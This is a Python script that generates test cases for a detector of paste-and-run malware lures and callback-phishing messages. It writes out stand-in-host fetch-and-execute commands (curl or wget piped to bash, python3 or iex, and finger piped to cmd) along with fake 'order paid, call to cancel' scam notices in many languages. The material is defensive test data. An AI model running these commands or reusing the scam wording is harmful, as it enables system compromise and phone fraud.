"""Writes tests/data/cases/b22fix.jsonl: the kinds of text BLIND-22's misses stand for (helper
"b22fix", 2026-12-07 late night), written here from general knowledge of such texts, each beside
look-alikes on the other side that must keep their level.

    python tests/data/cases/make_b22fix.py

Deterministic. Invented hosts are reserved names (*.test, *.example, *.invalid) and documentation
addresses, phone numbers are made-up 555 ones; no blind set's text, lure collection or other
detector's fixture is copied. Each line is {id, text, expect, technique, platform, source, target}.

By kind:

- `prose-pipe-switch`: a report's sentence naming a pipe with a switch before it ("a blob piped to
  base64 -d | bash. The decoded stage …", "curl's output through gunzip -c | sh"): the words
  before the pipe start with no program, so a shell fails on them whatever their switches, and
  the shell after the pipe is given plain words (prose._phrase_pipe). A live `… | base64 -d |
  bash` with an address stays blocked.
- `single-quoted-sample`: a triage note quoting a defanged lure in single quotes ("RunMRU shows
  'conhost --headless powershell … irm hxxps://…[.]top/r | iex' at 10:02"): a sample set apart
  as double quotes set it (prose._QUOTED), and the quoted hidden window is weighed as a
  sentence weighs it, since nothing it starts can fetch (engine, the write-up's live score). A
  live address in the same quotes, or the same words pasted in a terminal, stay flagged.
- `record-no-address`: a detection note or alert summary in `Field: value` lines naming a
  technique's command with no address (`- Child: conhost.exe --headless powershell.exe`): an
  analyst's record (records.py) starts no program. A record line holding a live address, and a
  command on a line of its own under a heading, stay flagged.
- `script-host-named-media`: a script fetched and run from a host named as a font or picture
  server (`curl -fsSL https://fontcdn-relay.test/s | python3 -`, `img-cache-…`, `fonts-static…`,
  `…icons-pack…`), bare with no page: PG-SCRIPT-HOST-NAMED-MEDIA (55-b22-lures.yaml), a disguise
  beside a stranger's script, blocks it as 28-ioc-traits' traits do. A plain `curl … | sh` or
  `| python3 -` from a host with no such name stays a warning (issue 9 point 3); a font or
  badge downloaded and not run, a tool whose name only starts like one (imgtool, fontforge),
  and the media-named site's own page handing out its own installer stay as they were.
- `callback-order-paid`: an order notice with its number and amount in parentheses between the
  noun and its state ("A sua encomenda n.º … (…, 1.299,00 €) foi paga", "Siparişiniz (No: …)
  onaylandı", "Din beställning nr … är betald") and a number to call to cancel if it was not
  you, in fourteen languages: flagged with the shop's page and bare. Portuguese read "pedido"
  but not "encomenda" nor "paga", Swedish not "betald", and the phone pattern of
  41-scam-calls.yaml missed Lisbon's 2-3-4 grouping (21 555 0177); Turkish was brought level by
  b21fix. The shop's genuine notice of the same shape (paid, ships tomorrow, a service number
  with opening hours; a bank's advice with its app) stays quiet.
- `defanged-host-sample`: a report quoting in double quotes a command whose only host is
  written defanged (`"finger gate@198.51.100[.]20 | cmd"`, `"nslookup -q=txt x relay[.]test"`):
  no program resolves such a name. The live host in the same sentence stays flagged.
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script, which runs as tests/data/cases/make_*.py

OUT = Path(__file__).with_name("b22fix.jsonl")
RUN = "run_dialog"
TERMINAL = "terminal"
OTHER = "other"
UNKNOWN = "unknown"
BLOG = "https://research.harbor-sec.example/posts/clickfix-macos"
WIKI = "https://wiki.soc.example/detections/2026-12"
TICKET = "https://tickets.corp.example/browse/SEC-4410"
LURE_PAGE = "https://captcha-check.invalid/verify"
SHOP_PAGE = "https://parcel-redelivery.test/orders/55-3120"


def writing(book: Book) -> None:
    tech = "prose-pipe-switch"
    for text in (
        "macOS lures tell the visitor to open Terminal and paste a long blob piped to base64 -d "
        "| bash. The second stage asks for the login password in a dialog.",
        "The fake update page hands over a line that sends a compressed blob through gunzip -c | "
        "sh, and the script then installs a launch agent.",
        "Operators paste an encoded string that is decoded with openssl base64 -d -A | zsh on the "
        "victim's Mac.",
        "Laut Bericht lässt die Seite einen langen Text mit base64 --decode | bash starten.",
        "Analysts saw the payload decoded by xxd -r -p | sh before the stealer was launched.",
        "Victims were told to copy a blob and decode it with base64 -D | bash, which fetched "
        "the stealer from a rotating domain.",
    ):
        book.add(tech, text, "not_flagged", "any", UNKNOWN, BLOG)
    for text, expect, target in (
        ("curl -s https://blob-relay.invalid/p | base64 -d | bash", "malicious", TERMINAL),
        ("echo Y3VybCAtcyBodHRwczovL2JhZC5pbnZhbGlkL3ggfCBzaA== | base64 -d | bash",
         "malicious", TERMINAL),
        ("To finish, paste this: curl -s https://blob-relay.invalid/p | base64 -D | bash",
         "malicious", TERMINAL),
    ):  # fmt: skip
        book.add(tech, text, expect, "any", target, LURE_PAGE)

    tech = "single-quoted-sample"
    for text in (
        "Triage: RunMRU on WS-0417 shows 'conhost --headless powershell … irm hxxps://…[.]top/r "
        "| iex' at 09:12. EDR blocked the child process. Closing as contained.",
        "Host LT-HR-0099 ran 'powershell -w h -c iwr hxxps://verify-cdn[.]test/c | iex' from the "
        "Run dialog. Password reset done, no persistence found.",
        "The user pasted 'mshta hxxps://check-human[.]invalid/v.hta' after a fake CAPTCHA; the "
        "proxy blocked the fetch and the laptop was reimaged.",
        "Summary: the page copied 'conhost.exe --headless cmd /c curl hxxp://203.0.113[.]9/a "
        "-o %TEMP%\\a.cmd' to the clipboard. No execution observed.",
        "Incident 5512: RunMRU holds ‘powershell -nop -w hidden -c iex(irm hxxps://cdn-fix[.]"
        "example/s)’ at 14:31, blocked by ASR, ticket closed.",
    ):
        book.add(tech, text, "not_flagged", "windows", UNKNOWN, TICKET)
    for text, expect, target in (
        ("Verify you are human: 'conhost --headless powershell -c irm https://cdn-fix.invalid/r "
         "| iex'", "malicious", RUN),
        ("Triage: RunMRU on WS-0417 shows 'conhost --headless powershell … irm hxxps://…[.]top/r "
         "| iex' at 09:12. EDR blocked the child process.", "suspicious", TERMINAL),
        ("Host LT-HR-0099 ran 'powershell -w h -c iwr https://verify-cdn.test/c | iex' from the "
         "Run dialog.", "flagged", UNKNOWN),
        ("Press Win+R, paste 'conhost --headless powershell -c irm hxxps://cdn-fix[.]test/r | "
         "iex' and press Enter to verify you are human.", "suspicious", UNKNOWN),
    ):  # fmt: skip
        book.add(tech, text, expect, "windows", target, TICKET if target != RUN else LURE_PAGE)

    tech = "record-no-address"
    for text in (
        "- Parent: explorer.exe\n- Child: conhost.exe --headless powershell.exe\n"
        "- Network: outbound within 10s\nVerdict: likely ClickFix, escalate",
        "Rule: headless console host\nProcess: conhost.exe --headless cmd.exe /c\n"
        "Severity: high\nAction: alert",
        "Alert 7781\nParent: explorer.exe\nCommandLine: mshta.exe vbscript:Execute(...)\n"
        "Status: blocked by ASR",
        "- Technique: T1564.003\n- Example: conhost --headless powershell -nop\n"
        "- Detection: parent explorer.exe, child conhost.exe",
        "Hunt note:\n- Image: rundll32.exe\n- CommandLine: rundll32.exe javascript:... \n"
        "- Result: 0 hits in 30 days",
    ):
        book.add(tech, text, "not_flagged", "windows", UNKNOWN, WIKI)
    for text, expect, target in (
        ("Parent: explorer.exe\nconhost.exe --headless powershell -c irm "
         "https://cdn-fix.invalid/r | iex", "malicious", UNKNOWN),
        ("- Parent: explorer.exe\n- Child: conhost.exe --headless powershell.exe",
         "flagged", RUN),
    ):  # fmt: skip
        book.add(tech, text, expect, "windows", target, WIKI)

    tech = "defanged-host-sample"
    for text in (
        'Observed command (defanged): cmd /c "finger gate@198.51.100[.]20 | cmd" — finger.exe '
        "pulls a batch script from the operator's finger daemon, which cmd then runs.",
        'The lure copies "nslookup -q=txt stage.relay-dns[.]test 203.0.113[.]53" and pipes the '
        "answer into PowerShell, per the vendor's write-up.",
        'We saw "finger.exe upd@relay-node[.]invalid" in RunMRU on two hosts; both were isolated '
        "before the second stage ran.",
        'Researchers describe "cmd /c finger vx@ops-stage[.]example | more +2 | cmd" as the '
        "newest variant of the campaign.",
        'In the sample the page stages "nslookup -type=txt cfg.dns-stage[.]invalid" before it '
        "runs the answer, according to the report.",
    ):
        book.add(tech, text, "not_flagged", "windows", UNKNOWN, BLOG)
    for text, expect, target in (
        ('Observed command: cmd /c "finger gate@relay-node.invalid | cmd" on the host.',
         "flagged", UNKNOWN),
        ('cmd /c "finger gate@198.51.100.20 | cmd"', "malicious", RUN),
    ):  # fmt: skip
        book.add(tech, text, expect, "windows", target, BLOG if target != RUN else LURE_PAGE)


def media_host(book: Book) -> None:
    tech = "script-host-named-media"
    for text in (
        "curl -fsSL https://fontcdn-relay.test/s | python3 -",
        "wget -qO- https://img-cache-eu.example/a | bash",
        "curl -s https://fonts-static.invalid/k | sh",
        "irm https://imgproxy.test/p | iex",
        "curl -sL https://cdn.icons-pack.example/i | perl",
        'bash -c "$(curl -fsSL https://avatar-store.test/x)"',
        "curl -fsSL https://thumbs.photo-share.invalid/u | sudo bash",
    ):
        book.add(tech, text, "malicious", "any", TERMINAL, None)
    for text, expect, source in (
        ("curl -fsSL https://x-tools.example/i | python3 -", "suspicious", None),
        ("curl -fsSL https://fontforge-tools.example/install.sh | bash", "suspicious", None),
        ("curl -fsSL https://get.imgtool.example/install.sh | sh", "not_flagged",
         "https://imgtool.example/docs/install"),
        ("curl -fsSL https://pics.lumen.example/install.sh | sh", "not_flagged",
         "https://pics.lumen.example/docs"),
        ("curl -o Inter.zip https://fonts-cdn.example/inter/Inter-4.0.zip", "not_flagged", None),
        ("curl -fsSL https://img.badges.example/build-passing.svg -o badge.svg", "not_flagged",
         None),
    ):  # fmt: skip
        book.add(tech, text, expect, "any", TERMINAL, source)


def callbacks(book: Book) -> None:
    tech = "callback-order-paid"
    for text in (
        "Your order no. 55-3120 (iPhone 17 Pro, $1,299.00) has been paid. If you do not "
        "recognise this purchase, call 1-888-555-0143 to cancel.",
        "Ihre Bestellung Nr. 55-3120 (iPhone 17 Pro, 1.299,00 €) wurde bezahlt. Wenn Sie diesen "
        "Kauf nicht erkennen, rufen Sie zum Stornieren 030 5550 1432 an.",
        "Votre commande n° 55-3120 (iPhone 17 Pro, 1.299,00 €) a été payée. Si vous ne "
        "reconnaissez pas cet achat, appelez le 01 55 50 14 32 pour annuler.",
        "Su pedido n.º 55-3120 (iPhone 17 Pro, 1.299,00 €) ha sido pagado. Si no reconoce esta "
        "compra, llame al 910 555 143 para cancelar.",
        "Il tuo ordine n. 55-3120 (iPhone 17 Pro, 1.299,00 €) è stato pagato. Se non riconosci "
        "questo acquisto, chiama il 02 5550 1432 per annullare.",
        "A sua encomenda n.º 55-3120 (iPhone 17 Pro, 1.299,00 €) foi paga. Se não reconhece esta "
        "compra, ligue para 21 555 0143 para cancelar.",
        "A sua encomenda n.º 3391 (frigorífico combinado, 899,00 €) foi paga. Se não reconhece "
        "esta compra, ligue para 22 555 0143 para cancelar.",
        "Seu pedido nº 55-3120 (iPhone 17 Pro, R$ 7.999,00) foi pago. Se você não reconhece esta "
        "compra, ligue para (11) 5555-0143 para cancelar.",
        "Uw bestelling nr. 55-3120 (iPhone 17 Pro, € 1.299,00) is betaald. Herkent u deze aankoop "
        "niet, bel dan 020 555 0143 om te annuleren.",
        "Twoje zamówienie nr 55-3120 (iPhone 17 Pro, 5.999,00 zł) zostało opłacone. Jeśli nie "
        "rozpoznajesz tego zakupu, zadzwoń pod 22 555 01 43, aby anulować.",
        "Siparişiniz (No: 55-3120, iPhone 17 Pro, 64.999 TL) onaylandı. Bu alışverişi siz "
        "yapmadıysanız iptal için 0212 555 01 43 numarasını arayın.",
        "Siparişiniz (No: 3391, buzdolabı, 28.499 TL) onaylandı. Bu siparişi siz vermediyseniz "
        "iptal için 0216 555 01 43 numarasını arayın.",
        "Ваш заказ № 55-3120 (iPhone 17 Pro, 129.990 ₽) оплачен. Если вы не совершали эту покупку, "
        "позвоните по номеру 8 800 555-01-43 для отмены.",
        "ご注文番号 55-3120（iPhone 17 Pro、189,800円）のお支払いが完了しました。お心当たりがない場合は、"
        "キャンセルのため 0120-555-143 までお電話ください。",
        "您的订单 55-3120（iPhone 17 Pro，¥9,999）已付款。如非本人操作，请致电 400-555-0143 取消。",
        "تم الدفع لطلبك رقم 55-3120 (iPhone 17 Pro، 4,999 ريال). إذا لم تقم بهذه العملية، اتصل على "
        "800 555 0143 للإلغاء.",
        "Din beställning nr 55-3120 (iPhone 17 Pro, 14 999 kr) är betald. Om du inte känner igen "
        "köpet, ring 08-555 014 30 för att avbryta.",
        "Din beställning nr 3391 (kylskåp, 8 990 kr) är betald. Om det inte var du, ring "
        "08-555 014 30 för att avbryta köpet.",
        "고객님의 주문 55-3120 (iPhone 17 Pro, 1,799,000원) 결제가 완료되었습니다. 본인이 아닌 경우 "
        "취소를 위해 02-555-0143으로 전화하세요.",
    ):
        book.add(tech, text, "flagged", "any", UNKNOWN, SHOP_PAGE)
        book.add(tech, text, "flagged", "any", UNKNOWN, None)
    for text in (
        "A sua encomenda n.º 55-3120 (iPhone 17 Pro, 1.299,00 €) foi paga e será enviada amanhã. "
        "Apoio ao cliente: 21 555 0143, dias úteis das 9h às 18h.",
        "Se não reconhece uma compra no seu cartão, contacte o seu banco pela app ou pelo "
        "21 555 0100. A sua encomenda n.º 4411 foi paga.",
        "Siparişiniz (No: 55-3120, 64.999 TL) onaylandı ve yarın kargoya verilecek. Müşteri "
        "hizmetleri: 0212 555 01 43 (hafta içi 09:00-18:00).",
        "Your order no. 55-3120 (iPhone 17 Pro, $1,299.00) has been paid and ships tomorrow. "
        "Questions? Our store team is at 1-888-555-0143, Mon-Fri 9-5.",
        "Ihre Bestellung Nr. 55-3120 (1.299,00 €) wurde bezahlt und wird morgen versandt. "
        "Kundenservice: 030 5550 1432, Mo–Fr 8–18 Uhr.",
        "Votre commande n° 55-3120 (1.299,00 €) a été payée et sera expédiée demain. Service "
        "client : 01 55 50 14 32, du lundi au vendredi.",
        "Su pedido n.º 55-3120 (1.299,00 €) ha sido pagado y se enviará mañana. Atención al "
        "cliente: 910 555 143, de lunes a viernes.",
        "Il tuo ordine n. 55-3120 (1.299,00 €) è stato pagato e partirà domani. Servizio clienti: "
        "02 5550 1432, dal lunedì al venerdì.",
        "Uw bestelling nr. 55-3120 (€ 1.299,00) is betaald en wordt morgen verzonden. "
        "Klantenservice: 020 555 0143, ma-vr 9-17 uur.",
        "Twoje zamówienie nr 55-3120 (5.999,00 zł) zostało opłacone i zostanie wysłane jutro. "
        "Infolinia: 22 555 01 43, pn–pt 8–18.",
        "ご注文番号 55-3120 のお支払いが完了しました。商品は明日発送します。お問い合わせ: 0120-555-143"
        "（平日 9時〜18時）",
    ):
        book.add(tech, text, "not_flagged", "any", UNKNOWN, SHOP_PAGE)


def build() -> list[dict[str, str]]:
    book = Book("b22f")
    writing(book)
    media_host(book)
    callbacks(book)
    return book.cases


CASES = build()

if __name__ == "__main__":
    write(OUT, CASES)
